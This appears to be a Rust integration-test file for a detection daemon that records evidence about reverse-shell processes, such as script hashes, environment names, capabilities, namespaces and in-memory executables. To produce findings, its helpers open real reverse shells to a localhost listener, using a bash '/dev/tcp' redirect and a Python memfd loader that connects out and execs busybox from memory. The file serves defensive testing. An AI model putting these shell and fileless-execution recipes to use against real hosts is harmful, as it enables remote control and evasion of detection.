@@ -1,0 +1,287 @@
+//! What a finding keeps of its process: real ones, each with something of its own to tell.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    reason = "a test's helpers may fail the test wherever they are"
+)]
+
+mod common;
+
+use std::fs;
+use std::net::TcpStream;
+use std::os::fd::OwnedFd;
+use std::os::unix::fs::PermissionsExt;
+use std::process::{Command, Stdio};
+
+use serde_json::{Value, json};
+use sha2::{Digest, Sha256};
+
+use common::attacker::Listener;
+use common::daemon::Daemon;
+use common::finding::Finding;
+use common::victim::Victim;
+use common::{DEADLINE, token, wait_at_most};
+
+/// With time enough for a busy machine: what is asserted here is content.
+fn daemon() -> Daemon {
+    Daemon::start("[enrich]\ndigest_wait_ms = 1000\nevidence_copy = true\n")
+}
+
+/// A tether and the process on it.
+struct Tied {
+    attacker: Listener,
+    victim: Victim,
+}
+
+impl Tied {
+    /// A shell that connects, and then `wrapper`, which gets the socket as fd 5 and runs the words after it.
+    fn new(wrapper: &[&str], program: &str) -> Self {
+        let attacker = Listener::tcp();
+        let code = format!(
+            "exec 5<>/dev/tcp/127.0.0.1/{}; exec \"$@\" -c 'exec {program} <&5 >&5 2>&5 5>&-'",
+            attacker.port()
+        );
+        let victim = Victim::start("/bin/bash", &[&["-c", &code, "bash"], wrapper].concat());
+        Self { attacker, victim }
+    }
+
+    fn by(mut command: Command) -> Self {
+        let attacker = Listener::tcp();
+        let stream = TcpStream::connect(("127.0.0.1", attacker.port())).unwrap();
+        let stdio = || Stdio::from(OwnedFd::from(stream.try_clone().unwrap()));
+        command.stdin(stdio()).stdout(stdio()).stderr(stdio());
+        Self { victim: Victim::spawn(command), attacker }
+    }
+
+    /// A program that lives in memory alone.
+    fn in_memory() -> Self {
+        let attacker = Listener::tcp();
+        let code = format!(
+            "import os, socket\nm = os.memfd_create('sh')\nos.write(m, open('/usr/bin/busybox', 'rb').read())\n\
+             s = socket.create_connection(('127.0.0.1', {}))\n\
+             for n in 0, 1, 2: os.dup2(s.fileno(), n)\nos.execve(m, ['sh'], {{}})\n",
+            attacker.port()
+        );
+        Self { victim: Victim::start("/usr/bin/python3", &["-c", &code]), attacker }
+    }
+
+    /// The newest record about it whose main process was gathered and `is` what is meant.
+    fn found(&self, daemon: &Daemon, is: impl Fn(&Finding) -> bool) -> Finding {
+        let about = |record: &Finding| record.peer_port() == Some(self.attacker.port());
+        let found = wait_at_most(DEADLINE, || {
+            let all = daemon.records();
+            all.into_iter().rfind(|record| {
+                about(record) && !record.property("Process_Namespaces").is_null() && is(record)
+            })
+        });
+        found.unwrap_or_else(|| {
+            let last = daemon.records().into_iter().rfind(about);
+            panic!(
+                "no finding with its evidence; the last record: {:?}",
+                last.map(|record| record.0.to_string())
+            )
+        })
+    }
+}
+
+fn sha256(bytes: &[u8]) -> String {
+    Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
+}
+
+fn runs(record: &Finding, name: &str) -> bool {
+    record.text("Process_Binary_Fullpath").rsplit('/').next() == Some(name)
+}
+
+#[test]
+fn a_script_its_environment_and_a_copy_of_its_shell() {
+    require!("dash");
+    let daemon = daemon();
+    let directory = tempfile::tempdir().unwrap();
+    let text = format!("# {}\nread line\n", token());
+    fs::write(directory.path().join("x.sh"), &text).unwrap();
+    let mut command = Command::new("/usr/bin/dash");
+    command.arg("x.sh").current_dir(directory.path()).env("SSH_CLIENT", "192.0.2.7 40000 22");
+    command.env("DB_PASSWORD", "hunter2");
+    let tied = Tied::by(command);
+    let found = tied.found(&daemon, |record| runs(record, "dash"));
+    let script = found.property("Process_Script");
+    assert_eq!(script["sha256"], sha256(text.as_bytes()), "{}", found.0);
+    assert_eq!(script["path"], directory.path().join("x.sh").to_str().unwrap());
+    let process = found.process(tied.victim.pid()).unwrap();
+    assert_eq!(process["script"]["sha256"], script["sha256"]);
+    let environment = found.property("Process_Environment");
+    assert_eq!(environment["values"]["SSH_CLIENT"], "192.0.2.7 40000 22");
+    assert!(environment["names"].as_array().unwrap().contains(&json!("DB_PASSWORD")));
+    assert!(!found.mentions("hunter2"));
+    assert!(found.property("Process_Capabilities")["effective"][0].is_string(), "{}", found.0);
+    assert_eq!(found.property("Process_Namespaces"), &json!({}));
+    assert_eq!(found.property("Executable_Origin")["kind"], "host", "{}", found.0);
+    is_copied(&daemon, &found, &fs::read("/usr/bin/dash").unwrap());
+    // The whole record has everything: nothing of it is missing.
+    assert_eq!(found.property("Enrichment_Status"), &json!({"complete": true, "missing": []}));
+}
+
+fn is_copied(daemon: &Daemon, found: &Finding, content: &[u8]) {
+    let name = found.property("Evidence_File")["sha256"].as_str().unwrap_or_default().to_owned();
+    assert_eq!(name, sha256(content), "{}", found.0);
+    let copy = daemon.place().spool().join("evidence").join(&name);
+    assert!(fs::read(&copy).unwrap() == content, "the copy is another file");
+    assert_eq!(fs::metadata(&copy).unwrap().permissions().mode() & 0o777, 0o600);
+}
+
+/// A memfd, twice: it is kept although it has no name anywhere, and the two findings are linked both ways.
+#[test]
+fn memory_is_kept_and_links_two_findings() {
+    require!("python3", "busybox");
+    let daemon = daemon();
+    let from_memory = |record: &Finding| record.property("Executable_Origin")["kind"] == "memfd";
+    let first = Tied::in_memory();
+    let one = first.found(&daemon, from_memory);
+    is_copied(&daemon, &one, &fs::read("/usr/bin/busybox").unwrap());
+    assert!(one.property("Related_Findings").is_null(), "{}", one.0);
+    drop(first);
+    daemon.wait_for("the first one ends", |record| record.id() == one.id() && record.state() == "INACTIVE");
+    let second = Tied::in_memory();
+    let two = second.found(&daemon, from_memory);
+    let link = |to: &Finding| json!({"id": to.id(), "reasons": ["executable"], "firstSeen": to.0["finding"]["eventTime"]});
+    let linked = |record: &Finding, to: &Finding| {
+        record.property("Related_Findings").as_array().is_some_and(|list| list.contains(&link(to)))
+    };
+    daemon.wait_for("the second names the first", |record| record.id() == two.id() && linked(record, &one));
+    let again = daemon
+        .wait_for("the first names the second", |record| record.id() == one.id() && linked(record, &two));
+    assert_eq!(again.state(), "INACTIVE", "it is over still");
+    assert_eq!(again.count(), one.count());
+}
+
+#[test]
+fn fewer_privileges() {
+    require!("setpriv", "dash");
+    let daemon = daemon();
+    let options = ["--reuid=65534", "--regid=65534", "--clear-groups", "--no-new-privs", "--inh-caps=-all"];
+    let tied = Tied::new(&[&["setpriv"], &options[..], &["--", "/bin/sh"]].concat(), "/usr/bin/dash");
+    let found = tied.found(&daemon, |record| runs(record, "dash"));
+    assert_eq!(
+        found.property("Process_Capabilities"),
+        &json!({"effective": [], "permitted": []}),
+        "{}",
+        found.0
+    );
+    assert_eq!(found.property("Process_No_New_Privileges"), &json!(true));
+    let ids = json!({"userId": 65534, "effectiveUserId": 65534, "groupId": 65534, "effectiveGroupId": 65534});
+    assert_eq!(found.property("Process_Credentials"), &ids);
+    let other = Tied::new(&["setpriv", "--bounding-set=-all,+kill", "--", "/bin/sh"], "/usr/bin/dash");
+    let found = other.found(&daemon, |record| runs(record, "dash"));
+    assert_eq!(
+        found.property("Process_Capabilities"),
+        &json!({"effective": ["KILL"], "permitted": ["KILL"]}),
+        "{}",
+        found.0
+    );
+    assert_eq!(found.property("Process_No_New_Privileges"), &json!(false));
+}
+
+/// A process that keeps namespaces, made by a script of the shell's.
+fn holder(unshare: &[&str], script: &str) -> Victim {
+    let mut command = Command::new("/usr/bin/unshare");
+    command
+        .args(unshare)
+        .args(["--", "/bin/sh", "-ec", script])
+        .stdin(Stdio::piped())
+        .stderr(Stdio::inherit());
+    Victim::ready(command, "ready")
+}
+
+#[test]
+fn in_the_image_or_added_since() {
+    require!("busybox", "unshare", "nsenter", "chroot");
+    let daemon = daemon();
+    let directory = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+    let at = |name: &str| directory.path().join(name).display().to_string();
+    for name in ["lower/bin", "lower/usr", "lower/opt", "lower/vol", "upper", "work", "merged"] {
+        fs::create_dir_all(at(name)).unwrap();
+    }
+    fs::copy("/usr/bin/busybox", at("lower/bin/busybox")).unwrap();
+    fs::copy("/usr/bin/busybox", at("lower/usr/busybox")).unwrap();
+    let (merged, host) = (
+        at("merged"),
+        holder(
+            &["-m"],
+            &format!(
+                "mount -t overlay overlay -o lowerdir={},upperdir={},workdir={} {m}\n\
+             cp /usr/bin/busybox {m}/opt/busybox\nchmod 700 {m}/usr/busybox\n\
+             mount -t tmpfs none {m}/vol\ncp /usr/bin/busybox {m}/vol/busybox\necho ready\nread line",
+                at("lower"),
+                at("upper"),
+                at("work"),
+                m = at("merged")
+            ),
+        ),
+    );
+    let target = host.pid().to_string();
+    for (program, kind, filesystem) in [
+        ("/bin/busybox", "image", "overlay"),
+        ("/opt/busybox", "added", "overlay"),
+        ("/usr/busybox", "changed", "overlay"),
+        ("/vol/busybox", "mount", "tmpfs"),
+    ] {
+        let enter = ["nsenter", "-t", &target, "-m", "chroot", &merged, "/bin/busybox", "sh"];
+        let tied = Tied::new(&enter, &format!("{program} sh"));
+        let found = tied.found(&daemon, |record| record.text("Process_Binary_Fullpath").ends_with(program));
+        let origin = found.property("Executable_Origin");
+        assert_eq!(
+            (&origin["kind"], &origin["filesystem"]),
+            (&json!(kind), &json!(filesystem)),
+            "{program}: {}",
+            found.0
+        );
+        assert!(found.property("Process_Namespaces")["mnt"].is_string(), "{}", found.0);
+    }
+}
+
+#[test]
+fn other_peers_of_its_network_namespace() {
+    require!("python3", "unshare", "nsenter", "ip", "dash");
+    let daemon = daemon();
+    let code = "import socket, sys\nl = socket.create_server(('127.0.0.1', 7777))\n\
+                c = socket.create_connection(('127.0.0.1', 7777))\nprint('ready', flush=True)\nsys.stdin.read()";
+    let host = holder(&["-n"], &format!("ip link set lo up\nexec python3 -c \"{code}\""));
+    let target = host.pid().to_string();
+    let tied = Tied::new(&["nsenter", "-t", &target, "-n", "/bin/sh"], "/usr/bin/dash");
+    let found = tied.found(&daemon, |record| runs(record, "dash"));
+    let peers = found.property("Network_Peers");
+    let list = peers["peers"].as_array().unwrap();
+    assert!(
+        list.iter().any(|one| one["protocol"] == "TCP" && one["peer"] == "127.0.0.1:7777"),
+        "{}",
+        found.0
+    );
+    assert_eq!(peers["more"], Value::Bool(false));
+    assert!(found.property("Process_Namespaces")["net"].is_string());
+}
+
+/// What cannot be kept is said, and the finding is there in time all the same.
+#[test]
+fn a_full_directory_and_an_ended_process_are_said() {
+    require!("dash");
+    let daemon =
+        Daemon::start("[enrich]\ndigest_wait_ms = 1000\nevidence_copy = true\nevidence_max_bytes = 65536\n");
+    let tied = Tied::by(Command::new("/usr/bin/dash"));
+    let found = tied.found(&daemon, |record| runs(record, "dash"));
+    let said = found.property("Enrichment_Status")["missing"].to_string();
+    assert!(said.contains("copy of the executable: the evidence directory is full"), "{}", found.0);
+    let evidence = daemon.place().spool().join("evidence");
+    assert_eq!(fs::read_dir(&evidence).unwrap().count(), 0);
+
+    let mut command = Command::new("/usr/bin/dash");
+    command.args(["-c", ":"]);
+    let short = Tied::by(command);
+    let ended = daemon.wait_for("the short one ends", |record| {
+        record.peer_port() == Some(short.attacker.port()) && record.state() == "INACTIVE"
+    });
+    let told = !ended.property("Process_Namespaces").is_null();
+    let said = ended.property("Enrichment_Status")["missing"].to_string();
+    assert!(told || said.contains("the process has gone"), "{}", ended.0);
+}
